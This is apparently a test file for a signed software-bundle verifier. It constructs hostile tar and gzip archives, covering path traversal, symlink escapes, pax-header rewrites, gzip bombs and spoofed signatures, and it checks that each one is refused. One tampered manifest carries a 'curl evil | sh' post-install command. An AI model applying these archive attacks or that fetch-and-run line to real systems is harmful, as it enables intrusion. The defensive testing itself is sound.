/**
 * Hostile bundles built in code (issue 6, "archive tricks" and "tampering"): each is refused by
 * verifyBundle AND extractBundle with a specific code, and extraction leaves nothing behind —
 * neither in the destination nor anywhere an attack aimed at. Many cases are *validly signed* by
 * the trusted key (a compromised build machine), so the reader's structural checks are what stop
 * them, not the signature.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import * as zlib from 'node:zlib';
import tarStream from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type BundleManifest,
  type WrittenBundle,
  GZIP_HEADER,
  canonicalJson,
  crc32,
  extractBundle,
  inspectBundle,
  verifyBundle,
  writeBundle,
} from '../../src/bundle/index.js';
import { crc32Fallback } from '../../src/bundle/source.js';
import { encodeEntryHeaders } from '../../src/bundle/tar.js';
import { encodeSignature, formatChecksumList, signMessage } from '../../src/sign/index.js';
import { Rng } from '../helpers/random.js';
import {
  type ForgedFile,
  type RawEntry,
  bytes,
  codeOf,
  forge,
  listTree,
  makeInput,
  packRaw,
  removeDir,
  tempDir,
  unpackRaw,
  writeKeys,
} from './fixtures.js';

let dir: string;
let alice: Awaited<ReturnType<typeof writeKeys>>;
let bob: Awaited<ReturnType<typeof writeKeys>>;
let valid: WrittenBundle;
let validTar: Buffer;
let entries: RawEntry[];
let base: BundleManifest;
let files: ForgedFile[];
let stem: string;
/** Where attacks aim outside the destination; must never appear. */
let outside: string;
let n = 0;

beforeAll(async () => {
  dir = tempDir();
  alice = await writeKeys(join(dir, 'keys'), 'alice');
  bob = await writeKeys(join(dir, 'bobkeys'), 'bob');
  valid = await writeBundle(makeInput(join(dir, 'src')), { secretKey: alice.pair.secretKey, secretKeyFile: alice.sec, outDir: dir });
  validTar = readFileSync(valid.path);
  entries = unpackRaw(validTar);
  base = valid.manifest;
  stem = entries[0]!.path.split('/')[0]!;
  files = entries.slice(2).map((e) => ({ rel: e.path.slice(stem.length + 1), data: e.data!, mode: e.mode === 0o755 ? '0755' : '0644' }));
  outside = join(dir, 'outside');
  mkdirSync(outside);
});
afterAll(() => removeDir(dir));

/**
 * Verify and extract `data`; both must fail with `code`, and extraction must leave the
 * destination as it was (absent, or present and empty) and write nothing outside it.
 */
async function expectRefused(data: Buffer, code: string, name = 'hostile.tar'): Promise<void> {
  const file = join(dir, `${n++}-${name}`);
  writeFileSync(file, data);
  expect(await codeOf(verifyBundle(file, { trusted: alice.trusted }))).toBe(code);
  // Alternately into a new folder (removed again) and into an existing empty one (left empty).
  const dest = join(dir, `dest-${n}`);
  const existing = n % 2 === 0;
  if (existing) mkdirSync(dest);
  expect(await codeOf(extractBundle(file, dest, { trusted: alice.trusted }))).toBe(code);
  if (existing) expect(listTree(dest)).toEqual([]);
  else expect(existsSync(dest)).toBe(false);
  expect(listTree(outside)).toEqual([]);
  expect(existsSync(join(dir, 'evil.txt'))).toBe(false);
}

const at = (rel: string): string => `${stem}/${rel}`;
const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
/** The valid entries with `edit` applied to the list. */
const edited = (edit: (list: RawEntry[]) => RawEntry[]): Buffer => packRaw(edit(entries.map((e) => ({ ...e }))));
/** A validly signed forgery: `files` changed by `edit`, plus `extra` raw entries appended or inserted. */
function forged(edit: (f: ForgedFile[]) => ForgedFile[], options: Parameters<typeof forge>[3] = {}, extra: (e: RawEntry[]) => RawEntry[] = (e) => e): Buffer {
  return packRaw(extra(forge(base, edit(files.map((f) => ({ ...f }))), alice.pair, options).entries));
}

describe('the fixtures', () => {
  it('re-packing the parsed entries gives the writer bytes exactly (so each case differs only by its attack)', async () => {
    expect(packRaw(entries).equals(validTar)).toBe(true);
    const again = forged((f) => f);
    writeFileSync(join(dir, 'forged.tar'), again);
    await verifyBundle(join(dir, 'forged.tar'), { trusted: alice.trusted });
  });

  it('the JS CRC-32 fallback (Node 18) agrees with zlib', () => {
    const rng = new Rng(9);
    for (let i = 0; i < 50; i++) {
      const b = bytes(rng, rng.int(0, 3000));
      const split = rng.int(0, b.length);
      expect(crc32Fallback(b.subarray(split), crc32Fallback(b.subarray(0, split)))).toBe(crc32(b));
    }
    expect(crc32Fallback(Buffer.from('123456789'))).toBe(0xcbf43926);
  });
});

describe('paths', () => {
  it('refuses ../ and absolute paths, in an entry or in the signed list', async () => {
    await expectRefused(edited((l) => [...l.slice(0, 2), { path: `${stem}/../evil.txt`, data: Buffer.from('x') }, ...l.slice(2)]), 'UNSAFE_PATH');
    await expectRefused(edited((l) => [{ path: '../evil.txt', data: Buffer.from('x') }, ...l]), 'UNSAFE_PATH');
    await expectRefused(edited((l) => [...l, { path: `${outside}/evil.txt`, data: Buffer.from('x') }]), 'UNSAFE_PATH');
    await expectRefused(edited((l) => [{ path: '/tmp/evil.txt', data: Buffer.from('x') }, ...l]), 'UNSAFE_PATH');
    const evil = { rel: 'app/../../evil.txt', data: Buffer.from('x') };
    await expectRefused(forged((f) => f, { extraListed: [evil] }, (e) => [...e, { path: `${stem}/${evil.rel}`, data: evil.data }]), 'UNSAFE_PATH');
    await expectRefused(edited((l) => [...l.slice(0, 3), { path: `${stem}/app\\..\\evil.txt`, data: Buffer.from('x') }, ...l.slice(3)]), 'UNSAFE_PATH');
  });

  it('refuses an entry outside the top folder, or a top folder the manifest does not name', async () => {
    await expectRefused(edited((l) => [...l, { path: 'other-folder/app/x.py', data: Buffer.from('x') }]), 'BUNDLE_LAYOUT');
    await expectRefused(edited((l) => [...l.slice(0, 2), { path: 'loose-file.txt', data: Buffer.from('x') }, ...l.slice(2)]), 'BUNDLE_LAYOUT');
    await expectRefused(forged((f) => f, { stem: 'schoolapp-9.9.9-cp311-manylinux_2_36_armv7l' }), 'BUNDLE_LAYOUT');
  });

  it('refuses a signed list naming files outside the layout (wheels/ sub-folders, stray top-level files)', async () => {
    for (const rel of ['etc/passwd', 'wheels/sub/x.whl', 'wheels/readme.txt', 'SHA256.sig']) {
      await expectRefused(forged((f) => [...f, { rel, data: Buffer.from('x') }]), 'BUNDLE_LAYOUT');
    }
  });

  it('refuses paths that collide by case or Unicode normalisation, in the list or in the archive', async () => {
    const readme = (rel: string): ForgedFile => ({ rel, data: Buffer.from(rel) });
    await expectRefused(forged((f) => [...f, readme('app/README'), readme('app/readme')]), 'BUNDLE_DUPLICATE_ENTRY');
    await expectRefused(forged((f) => [...f, readme('app/Stra\u00dfe.txt'), readme('app/STRASSE.txt')]), 'BUNDLE_DUPLICATE_ENTRY');
    await expectRefused(forged((f) => [...f, readme('app/caf\u00e9.txt'), readme('app/cafe\u0301.txt')]), 'BUNDLE_DUPLICATE_ENTRY');
    // A lone NFD name: it would silently become another name on a normalising file system.
    await expectRefused(forged((f) => [...f, readme('app/cafe\u0301.txt')]), 'BUNDLE_LAYOUT');
    // A file that another path needs as a folder (would fail half-way through extraction).
    await expectRefused(forged((f) => [...f, readme('app/x'), readme('app/X/y.py')]), 'BUNDLE_DUPLICATE_ENTRY');
    // In the archive only: a second copy under a case variant of a listed name.
    await expectRefused(edited((l) => [...l, { path: at('PYLOCK.TOML'), data: Buffer.from('x') }]), 'BUNDLE_DUPLICATE_ENTRY');
  });

  it('refuses over-long names and GNU long-name records', async () => {
    await expectRefused(edited((l) => [...l, { path: at(`app/${'x'.repeat(300)}.py`), data: Buffer.from('x') }]), 'UNSAFE_PATH');
    await expectRefused(edited((l) => [...l, { path: at(`app/${'abcdefgh/'.repeat(500)}x.py`), data: Buffer.from('x') }]), 'UNSAFE_PATH');
    const longName = Buffer.from(`${at('app/')}${'y'.repeat(150)}.py\0`);
    await expectRefused(
      edited((l) => [...l.slice(0, 3), { path: '././@LongLink', data: longName, header: { name: '././@LongLink', typeflag: 'L', size: longName.length } }, ...l.slice(3)]),
      'BUNDLE_UNSUPPORTED_ENTRY',
    );
  });
});

describe('entry types', () => {
  const link = (type: string, target: string, rel = 'app/link'): RawEntry => ({ path: at(rel), header: { name: at(rel), typeflag: type, linkname: target, size: 0 } });

  it('refuses symbolic and hard links, to outside and to inside', async () => {
    await expectRefused(edited((l) => [...l, link('2', '/etc/passwd')]), 'BUNDLE_LINK');
    await expectRefused(edited((l) => [...l, link('2', '../../../outside')]), 'BUNDLE_LINK');
    await expectRefused(edited((l) => [...l, link('2', 'schoolapp/main.py')]), 'BUNDLE_LINK');
    await expectRefused(edited((l) => [...l, link('1', '/etc/passwd')]), 'BUNDLE_LINK');
    await expectRefused(edited((l) => [...l, link('1', at('app/schoolapp/main.py'))]), 'BUNDLE_LINK');
    // A link in place of a listed file, and a link as the very first entry.
    await expectRefused(edited((l) => l.map((e) => (e.path === at('app/schoolapp/main.py') ? link('2', outside, 'app/schoolapp/main.py') : e))), 'BUNDLE_LINK');
    await expectRefused(edited((l) => [link('2', '/etc/passwd', 'SHA256.sig'), ...l.slice(1)]), 'BUNDLE_LINK');
    // The classic two-step: a symlinked folder, then a file "inside" it.
    await expectRefused(edited((l) => [...l, link('2', outside, 'app/d'), { path: at('app/d/evil.txt'), data: Buffer.from('x') }]), 'BUNDLE_LINK');
  });

  it('refuses devices, FIFOs, directories and other types', async () => {
    const special = (type: string, rel = 'app/special', extra: Record<string, number> = {}): RawEntry => ({ path: at(rel), header: { name: at(rel), typeflag: type, size: 0, ...extra } });
    await expectRefused(edited((l) => [...l, special('3', 'app/null', { devmajor: 1, devminor: 3 })]), 'BUNDLE_UNSUPPORTED_ENTRY');
    await expectRefused(edited((l) => [...l, special('4', 'app/sda', { devmajor: 8, devminor: 0 })]), 'BUNDLE_UNSUPPORTED_ENTRY');
    await expectRefused(edited((l) => [...l, special('6')]), 'BUNDLE_UNSUPPORTED_ENTRY');
    await expectRefused(edited((l) => [...l.slice(0, 2), { path: at('app/'), header: { name: at('app/'), typeflag: '5', mode: 0o755, size: 0 } }, ...l.slice(2)]), 'BUNDLE_UNSUPPORTED_ENTRY');
    await expectRefused(edited((l) => [...l, special('7')]), 'BUNDLE_UNSUPPORTED_ENTRY');
    await expectRefused(edited((l) => [...l, special('\0')]), 'BUNDLE_UNSUPPORTED_ENTRY');
  });
});

describe('pax headers', () => {
  it('refuses a pax header that rewrites a ustar path, to a safe or an unsafe path', async () => {
    const main = at('app/schoolapp/main.py');
    const rewrite = (to: string): Buffer => edited((l) => l.map((e) => (e.path === main ? { ...e, pax: [['path', to]] } : e)));
    await expectRefused(rewrite(at('app/schoolapp/evil.py')), 'BUNDLE_PAX_HEADER');
    await expectRefused(rewrite(`${stem}/../evil.txt`), 'BUNDLE_PAX_HEADER');
    // With an empty ustar name the pax path is the only name, and still goes through the path guard.
    const only = (to: string): RawEntry => ({ path: '', data: Buffer.from('x'), pax: [['path', to]], header: { name: '', size: 1 } });
    await expectRefused(edited((l) => [...l, only(`${stem}/../../evil-\u00e9.txt`)]), 'UNSAFE_PATH');
    await expectRefused(edited((l) => [...l, only('/tmp/evil-\u00e9.txt')]), 'UNSAFE_PATH');
    // A pax path for a name that fits the ustar header: never written, so never accepted.
    await expectRefused(edited((l) => [...l, only(at('app/short.py'))]), 'BUNDLE_PAX_HEADER');
  });

  it('refuses pax records other than one path, global headers and malformed records', async () => {
    const main = at('app/schoolapp/main.py');
    const withPax = (pax: Array<[string, string]>, type?: string): Buffer =>
      edited((l) => l.map((e) => (e.path === main ? { ...e, pax, ...(type === undefined ? {} : { paxType: type }) } : e)));
    await expectRefused(withPax([['size', '99999']]), 'BUNDLE_PAX_HEADER');
    await expectRefused(withPax([['linkpath', '/etc/passwd']]), 'BUNDLE_PAX_HEADER');
    await expectRefused(withPax([['mtime', '1']]), 'BUNDLE_PAX_HEADER');
    await expectRefused(withPax([['uid', '1000']]), 'BUNDLE_PAX_HEADER');
    await expectRefused(withPax([['path', at('app/\u00e9.py')], ['path', at('app/\u00e8.py')]]), 'BUNDLE_PAX_HEADER');
    await expectRefused(withPax([['path', at('app/evil-\u00e9.py')]], 'g'), 'BUNDLE_PAX_HEADER');
    const bad = Buffer.from('99 path=x\n');
    await expectRefused(
      edited((l) => [...l.slice(0, 3), { path: '././@PaxHeader', data: bad, header: { name: '././@PaxHeader', typeflag: 'x', size: bad.length } }, ...l.slice(3)]),
      'BUNDLE_PAX_HEADER',
    );
  });
});

describe('lists and entries', () => {
  it('refuses duplicate entries (the second copy different), and a second SHA256.sig', async () => {
    const lock = entries.find((e) => e.path === at('pylock.toml'))!;
    await expectRefused(edited((l) => [...l.slice(0, 3), { ...lock, data: Buffer.from('evil = true\n') }, ...l.slice(3)]), 'BUNDLE_DUPLICATE_ENTRY');
    await expectRefused(edited((l) => [...l, { ...lock, data: Buffer.from('evil = true\n') }]), 'BUNDLE_DUPLICATE_ENTRY');
    await expectRefused(edited((l) => [...l, l[0]!]), 'BUNDLE_DUPLICATE_ENTRY');
    await expectRefused(edited((l) => [...l, l[1]!]), 'BUNDLE_DUPLICATE_ENTRY');
  });

  it('refuses unlisted entries, wherever they are', async () => {
    const extra: RawEntry = { path: at('app/backdoor.py'), data: Buffer.from('import os\n') };
    await expectRefused(edited((l) => [...l, extra]), 'BUNDLE_ENTRY_UNLISTED');
    await expectRefused(edited((l) => [...l.slice(0, 4), extra, ...l.slice(4)]), 'BUNDLE_ENTRY_UNLISTED');
    await expectRefused(edited((l) => [...l.slice(0, 2), { path: at('wheels/evil-1.0-py3-none-any.whl'), data: Buffer.from('PK') }, ...l.slice(2)]), 'BUNDLE_ENTRY_UNLISTED');
  });

  it('refuses missing and re-ordered entries', async () => {
    const wheel = entries.findIndex((e) => e.path.includes('/wheels/'));
    await expectRefused(edited((l) => l.filter((_, i) => i !== wheel)), 'BUNDLE_ENTRY_MISSING');
    await expectRefused(edited((l) => l.slice(0, -1)), 'BUNDLE_ENTRY_MISSING');
    await expectRefused(edited((l) => l.slice(0, 1)), 'BUNDLE_ENTRY_MISSING');
    await expectRefused(edited((l) => [...l.slice(0, 3), l[4]!, l[3]!, ...l.slice(5)]), 'BUNDLE_ENTRY_MISSING');
  });

  it('refuses a bundle whose first entry is not SHA256.sig, or whose second is not the manifest', async () => {
    await expectRefused(edited((l) => [l[1]!, l[0]!, ...l.slice(2)]), 'BUNDLE_LAYOUT');
    await expectRefused(edited((l) => [l[2]!, ...l]), 'BUNDLE_LAYOUT');
    await expectRefused(edited((l) => [l[0]!, ...l.slice(2)]), 'BUNDLE_LAYOUT');
    await expectRefused(Buffer.alloc(10240), 'BUNDLE_CORRUPT');
  });
});

describe('headers', () => {
  const patch = (rel: string, edit: (e: RawEntry) => RawEntry): Buffer => edited((l) => l.map((e) => (e.path === at(rel) ? edit(e) : e)));
  const wheelRel = (): string => entries.find((e) => e.path.includes('/wheels/'))!.path.slice(stem.length + 1);

  it('refuses a size field that lies, larger or smaller', async () => {
    const w = wheelRel();
    const data = entries.find((e) => e.path === at(w))!.data!;
    await expectRefused(patch(w, (e) => ({ ...e, data: Buffer.concat([data, Buffer.alloc(700)]) })), 'BUNDLE_SIZE_MISMATCH');
    await expectRefused(patch(w, (e) => ({ ...e, data: data.subarray(0, data.length - 600) })), 'BUNDLE_SIZE_MISMATCH');
    // The header alone lies (data unchanged): the reader trusts the signed size, not the header.
    const raw = packRaw(entries);
    const offset = raw.indexOf(Buffer.from(at(w).slice(-60)));
    expect(offset).toBeGreaterThan(0);
    const headerStart = offset - (offset % 512);
    const lied = Buffer.from(raw);
    const block = lied.subarray(headerStart, headerStart + 512);
    const fixed = encodeEntryHeaders(at(w), data.length + 512, 0o644, base.created);
    fixed.subarray(fixed.length - 512).copy(block);
    await expectRefused(lied, 'BUNDLE_SIZE_MISMATCH');
    // SHA256.sig's size lies: its data swallows the next header, so the signature no longer matches.
    await expectRefused(patch('SHA256.sig', (e) => ({ ...e, header: { name: e.path, size: e.data!.length + 512 } })), 'BUNDLE_CORRUPT');
  });

  it('refuses headers that are valid tar but not canonical: mtime, owner, names, mode, checksum spelling', async () => {
    const rel = 'app/schoolapp/main.py';
    await expectRefused(patch(rel, (e) => ({ ...e, mtime: base.created + 1 })), 'BUNDLE_CORRUPT');
    await expectRefused(patch(rel, (e) => ({ ...e, header: { name: e.path, size: e.data!.length, uid: 1000 } })), 'BUNDLE_CORRUPT');
    await expectRefused(patch(rel, (e) => ({ ...e, header: { name: e.path, size: e.data!.length, uname: 'root' } })), 'BUNDLE_CORRUPT');
    await expectRefused(patch(rel, (e) => ({ ...e, header: { name: e.path, size: e.data!.length, mode: 0o777 } })), 'BUNDLE_CORRUPT');
    await expectRefused(patch(rel, (e) => ({ ...e, header: { name: e.path, size: e.data!.length, mode: 0o4755 } })), 'BUNDLE_CORRUPT');
    await expectRefused(patch(rel, (e) => ({ ...e, mode: 0o755 })), 'BUNDLE_CORRUPT');
    await expectRefused(patch('app/bin/run.sh', (e) => ({ ...e, mode: 0o644 })), 'BUNDLE_CORRUPT');
    await expectRefused(patch(rel, (e) => ({ ...e, header: { name: e.path, size: e.data!.length, magic: 'ustar ', version: ' \0' } })), 'BUNDLE_CORRUPT');
    // The same path split differently between prefix and name.
    const deep = entries.find((e) => e.path.includes('/deep/'))!;
    const cut = deep.path.indexOf('/deep/') + 5;
    await expectRefused(
      edited((l) => l.map((e) => (e === l.find((x) => x.path === deep.path) ? { ...e, header: { name: e.path.slice(cut + 1), prefix: e.path.slice(0, cut), size: e.data!.length } } : e))),
      'BUNDLE_CORRUPT',
    );
  });

  it('refuses a re-packed bundle (tar-stream, GNU tar): the signed contents are the same, the bytes are not', async () => {
    const pack = tarStream.pack();
    const chunks: Buffer[] = [];
    const done = pipeline(pack, new Writable({ write: (c, _e, cb) => (chunks.push(c as Buffer), cb()) }));
    for (const e of entries) pack.entry({ name: e.path, size: e.data!.length, mode: e.mode ?? 0o644, mtime: new Date(base.created * 1000), uid: 0, gid: 0 }, e.data!);
    pack.finalize();
    await done;
    await expectRefused(Buffer.concat(chunks), 'BUNDLE_CORRUPT');
    const out = join(dir, 'gnu');
    mkdirSync(out);
    execFileSync('tar', ['-xf', valid.path, '-C', out]);
    const repack = (format: string): Buffer =>
      execFileSync('tar', ['-c', `--format=${format}`, '--sort=name', '--owner=0', '--group=0', '--numeric-owner', '-C', out, stem], { maxBuffer: 1 << 28 });
    await expectRefused(repack('gnu'), 'BUNDLE_CORRUPT');
    await expectRefused(repack('posix'), 'BUNDLE_PAX_HEADER');
  });
});

describe('signature and content tampering', () => {
  it('refuses a bundle signed by a key that is not trusted, naming its key number', async () => {
    const other = await writeBundle(makeInput(join(dir, 'src-bob')), { secretKey: bob.pair.secretKey, secretKeyFile: bob.sec, outDir: join(dir, 'bobkeys') });
    await expectRefused(readFileSync(other.path), 'UNTRUSTED_KEY');
    await expect(verifyBundle(other.path, { trusted: alice.trusted })).rejects.toThrow(bob.pair.publicKey.keynum);
    // Trusting both keys, it verifies.
    const both = new Map([...alice.trusted, ...bob.trusted]);
    expect((await verifyBundle(other.path, { trusted: both })).keynum).toBe(bob.pair.publicKey.keynum);
  });

  it('refuses the signature of another bundle, and a signature made by another key under a trusted key number', async () => {
    const input2 = makeInput(join(dir, 'src2'));
    const v2 = await writeBundle({ ...input2, app: { ...input2.app, version: '1.2.1' } }, { secretKey: alice.pair.secretKey, secretKeyFile: alice.sec, outDir: join(dir, 'src2') });
    const otherSig = unpackRaw(readFileSync(v2.path))[0]!;
    await expectRefused(edited((l) => [{ ...l[0]!, data: otherSig.data! }, ...l.slice(1)]), 'HASH_MISMATCH');
    const list = new TextEncoder().encode(formatChecksumList([{ algorithm: 'SHA256', path: 'manifest.json', digest: sha(entries[1]!.data!) }, ...base.files.map((f) => ({ algorithm: 'SHA256' as const, path: f.path, digest: f.sha256 }))]));
    const bobSig = signMessage(bob.pair.secretKey, list, 'verify with alice.pub');
    const spoofed = Buffer.from(encodeSignature({ ...bobSig, keynum: alice.pair.publicKey.keynum }, list));
    await expectRefused(edited((l) => [{ ...l[0]!, data: spoofed }, ...l.slice(1)]), 'SIGNATURE_MISMATCH');
    // A signature file that is not one at all.
    await expectRefused(edited((l) => [{ ...l[0]!, data: Buffer.from('untrusted comment: x\nnot base64\n') }, ...l.slice(1)]), 'INVALID_SIGNATURE');
  });

  it('refuses a changed comment line, though signify does not sign it', async () => {
    const sig = entries[0]!.data!.toString('latin1').replace('verify with alice.pub', 'verify with mallory.pub');
    await expectRefused(edited((l) => [{ ...l[0]!, data: Buffer.from(sig, 'latin1') }, ...l.slice(1)]), 'BUNDLE_CORRUPT');
  });

  it('refuses a wheel swapped for another valid wheel, and an edited manifest', async () => {
    const w = entries.findIndex((e) => e.path.includes('/wheels/'));
    const other = bytes(new Rng(77), entries[w]!.data!.length);
    await expectRefused(edited((l) => l.map((e, i) => (i === w ? { ...e, data: other } : e))), 'HASH_MISMATCH');
    const m = JSON.parse(entries[1]!.data!.toString()) as Record<string, Record<string, unknown>>;
    m.app!.post_install = [['sh', '-c', 'curl evil | sh']];
    await expectRefused(edited((l) => [l[0]!, { ...l[1]!, data: Buffer.from(canonicalJson(m as never)) }, ...l.slice(2)]), 'HASH_MISMATCH');
  });

  it('refuses validly signed manifests that disagree with the list or are not canonical', async () => {
    await expectRefused(forged((f) => f, { manifestEdit: (m) => void (m.format = 2) }), 'BUNDLE_FORMAT_UNSUPPORTED');
    await expectRefused(forged((f) => f, { manifestEdit: (m) => void (m.created = 5) }), 'BUNDLE_CORRUPT');
    await expectRefused(forged((f) => f, { manifestEdit: (m) => void (m.extra = 1) }), 'BUNDLE_INVALID_MANIFEST');
    await expectRefused(forged((f) => f, { manifestEdit: (m) => void (m.files = (m.files as unknown[]).slice(1)) }), 'BUNDLE_INVALID_MANIFEST');
    await expectRefused(forged((f) => f, { manifestEdit: (m) => void (m.wheels = []) }), 'BUNDLE_INVALID_MANIFEST');
    await expectRefused(forged((f) => [...f.slice(0, 2), f[3]!, f[2]!, ...f.slice(4)]), 'BUNDLE_INVALID_MANIFEST');
    await expectRefused(forged((f) => f.slice(1)), 'BUNDLE_INVALID_MANIFEST');
    // Signed, but not canonical JSON (a duplicate key would parse differently elsewhere).
    const f2 = forge(base, files, alice.pair);
    const text = f2.manifest.toString().replace('"format": 1,', '"format": 1, "format": 1,');
    const m2 = Buffer.from(text);
    const listText = formatChecksumList([{ algorithm: 'SHA256', path: 'manifest.json', digest: sha(m2) }, ...files.map((f) => ({ algorithm: 'SHA256' as const, path: f.rel, digest: sha(f.data) }))]);
    const msg = new TextEncoder().encode(listText);
    const sig2 = Buffer.from(encodeSignature(signMessage(alice.pair.secretKey, msg, 'verify with alice.pub'), msg));
    await expectRefused(packRaw([{ ...f2.entries[0]!, data: sig2 }, { ...f2.entries[1]!, data: m2 }, ...f2.entries.slice(2)]), 'BUNDLE_INVALID_MANIFEST');
  });
});

describe('the end of the file', () => {
  it('refuses trailing data, and zeros past the last record', async () => {
    await expectRefused(Buffer.concat([validTar, Buffer.from('garbage')]), 'BUNDLE_TRAILING_DATA');
    await expectRefused(Buffer.concat([validTar, Buffer.alloc(10240)]), 'BUNDLE_TRAILING_DATA');
    await expectRefused(Buffer.concat([validTar, packRaw([{ path: at('app/x'), data: Buffer.from('x') }])]), 'BUNDLE_TRAILING_DATA');
    const inFill = Buffer.from(validTar);
    inFill[inFill.length - 3] = 0x41;
    await expectRefused(inFill, 'BUNDLE_TRAILING_DATA');
  });

  it('refuses truncated files at every stage', async () => {
    const cuts = [1, 100, 512, 700, 1536, Math.floor(validTar.length / 2), validTar.length - 10240 + 100, validTar.length - 1];
    // Just before the end blocks: find them.
    const entriesEnd = packRaw(entries, { end: false, record: false }).length;
    cuts.push(entriesEnd, entriesEnd + 512, entriesEnd + 1000);
    for (const cut of cuts) await expectRefused(validTar.subarray(0, cut), 'BUNDLE_TRUNCATED');
    await expectRefused(Buffer.alloc(0), 'BUNDLE_CORRUPT');
  });

  it('refuses garbage', async () => {
    const rng = new Rng(12);
    await expectRefused(bytes(rng, 20000), 'BUNDLE_CORRUPT');
    await expectRefused(Buffer.from('PK\x03\x04 this is a zip'), 'BUNDLE_TRUNCATED');
    await expectRefused(Buffer.concat([Buffer.from('PK\x03\x04'), bytes(rng, 600)]), 'BUNDLE_CORRUPT');
  });
});

describe('compression', () => {
  /** A gzip file in sneakpack's framing around `tar` (or a given deflate body). */
  const gzipOf = (tar: Buffer, body = zlib.deflateRawSync(tar, { level: 1 })): Buffer => {
    const trailer = Buffer.alloc(8);
    trailer.writeUInt32LE(crc32(tar), 0);
    trailer.writeUInt32LE(tar.length % 2 ** 32, 4);
    return Buffer.concat([GZIP_HEADER, body, trailer]);
  };

  it('accepts another deflate encoding of the same tar, and gzip -9n output', async () => {
    writeFileSync(join(dir, 'other.tar.gz'), gzipOf(validTar));
    expect((await verifyBundle(join(dir, 'other.tar.gz'), { trusted: alice.trusted })).compressed).toBe(true);
    writeFileSync(join(dir, 'gnu.tar.gz'), execFileSync('gzip', ['-9', '-n', '-c', valid.path], { maxBuffer: 1 << 28 }));
    await verifyBundle(join(dir, 'gnu.tar.gz'), { trusted: alice.trusted });
  });

  it('refuses hostile tars inside gzip with the same codes', async () => {
    await expectRefused(gzipOf(edited((l) => [...l, { path: at('app/x.py'), data: Buffer.from('x') }])), 'BUNDLE_ENTRY_UNLISTED', 'h.tar.gz');
    await expectRefused(gzipOf(edited((l) => [...l, { path: at('app/l'), header: { name: at('app/l'), typeflag: '2', linkname: '/etc' } }])), 'BUNDLE_LINK', 'h.tar.gz');
  });

  it('refuses a non-canonical gzip header, a second member, data after the member, a bad CRC, truncation', async () => {
    const good = gzipOf(validTar);
    const named = Buffer.from(good);
    named[9] = 0xff;
    await expectRefused(named, 'BUNDLE_CORRUPT', 'h.tar.gz');
    const withName = execFileSync('gzip', ['-9', '-c', valid.path], { maxBuffer: 1 << 28 }); // FNAME + mtime
    await expectRefused(withName, 'BUNDLE_CORRUPT', 'h.tar.gz');
    // An empty member before or after the real one.
    const empty = gzipOf(Buffer.alloc(0));
    await expectRefused(Buffer.concat([good, empty]), 'BUNDLE_TRAILING_DATA', 'h.tar.gz');
    await expectRefused(Buffer.concat([empty, good]), 'BUNDLE_TRAILING_DATA', 'h.tar.gz');
    await expectRefused(Buffer.concat([good, Buffer.from('junk')]), 'BUNDLE_TRAILING_DATA', 'h.tar.gz');
    const badCrc = Buffer.from(good);
    badCrc[badCrc.length - 6] ^= 1;
    await expectRefused(badCrc, 'BUNDLE_CORRUPT', 'h.tar.gz');
    for (const cut of [1, 8, 9, 20, 100, Math.floor(good.length / 2)]) await expectRefused(good.subarray(0, good.length - cut), 'BUNDLE_TRUNCATED', 'h.tar.gz');
    await expectRefused(good.subarray(0, 12), 'BUNDLE_TRUNCATED', 'h.tar.gz');
  });

  it('stops gzip bombs early: an entry claiming gigabytes, zeros after the archive, a byte limit', async () => {
    // 64 MiB of zeros compress to ~64 kB; the header claims 6 GiB for SHA256.sig.
    const zeros = Buffer.alloc(64 * 1024 * 1024);
    const header = encodeEntryHeaders(at('SHA256.sig'), 6 * 1024 ** 3, 0o644, base.created);
    const bomb = Buffer.concat([header, zeros]);
    const bombGz = gzipOf(bomb, zlib.deflateRawSync(bomb, { level: 1 }));
    expect(bombGz.length).toBeLessThan(1 << 20);
    await expectRefused(bombGz, 'BUNDLE_TOO_LARGE', 'bomb.tar.gz');
    // A valid bundle followed, inside the same gzip stream, by 64 MiB of zeros.
    const padded = Buffer.concat([validTar, zeros]);
    await expectRefused(gzipOf(padded, zlib.deflateRawSync(padded, { level: 1 })), 'BUNDLE_TRAILING_DATA', 'bomb2.tar.gz');
    // The caller's limit on expanded bytes.
    writeFileSync(join(dir, 'limit.tar.gz'), gzipOf(validTar));
    expect(await codeOf(verifyBundle(join(dir, 'limit.tar.gz'), { trusted: alice.trusted, maxBytes: 20000 }))).toBe('BUNDLE_TOO_LARGE');
    expect(await codeOf(verifyBundle(valid.path, { trusted: alice.trusted, maxBytes: validTar.length - 1 }))).toBe('BUNDLE_TOO_LARGE');
    await verifyBundle(valid.path, { trusted: alice.trusted, maxBytes: validTar.length });
  });
});

describe('inspect', () => {
  it('reads a hostile bundle no further than its manifest, and never calls it verified', async () => {
    const file = join(dir, 'inspect-hostile.tar');
    writeFileSync(file, edited((l) => [...l, { path: at('app/x.py'), data: Buffer.from('x') }]));
    const r = await inspectBundle(file);
    expect(r.verified).toBe(false);
    expect(r.keynum).toBe(alice.pair.publicKey.keynum);
    // But it still refuses what it does read.
    writeFileSync(file, edited((l) => [l[1]!, l[0]!, ...l.slice(2)]));
    expect(await codeOf(inspectBundle(file))).toBe('BUNDLE_LAYOUT');
  });
});

describe('fuzzing validly signed manifests', () => {
  it('every random manifest edit is accepted or refused with a sneakpack error, never a crash', async () => {
    const rng = new Rng(31337);
    const fields = [
      ['format'], ['created'], ['app'], ['app', 'name'], ['app', 'version'], ['app', 'scripts'], ['app', 'post_install'], ['app', 'keep_releases'],
      ['target'], ['target', 'compact'], ['target', 'profile'], ['target', 'profile', 'tags'], ['target', 'profile', 'marker_environment'], ['target', 'profile', 'python_version'],
      ['wheels'], ['wheels', 0], ['wheels', 0, 'size'], ['wheels', 0, 'file'], ['wheels', 0, 'tags'], ['files'], ['files', 0], ['files', 1, 'size'], ['files', 2, 'path'], ['files', 3, 'mode'],
      ['builder'], ['builder', 'name'], ['signer', 'keynum'], ['signer', 'comment'], ['extra'],
    ] as const;
    const values: unknown[] = [null, true, 0, -1, 1.5, 2 ** 53, 8 ** 11, 'x', '', '\ud800', '../x', 'app/../x', [], [1], {}, { a: 1 }, 'wheels/a.whl', '0755', '0777', 1e300];
    const outcomes = new Map<string, number>();
    for (let k = 0; k < 150; k++) {
      const m = JSON.parse(JSON.stringify(base)) as Record<string, unknown>;
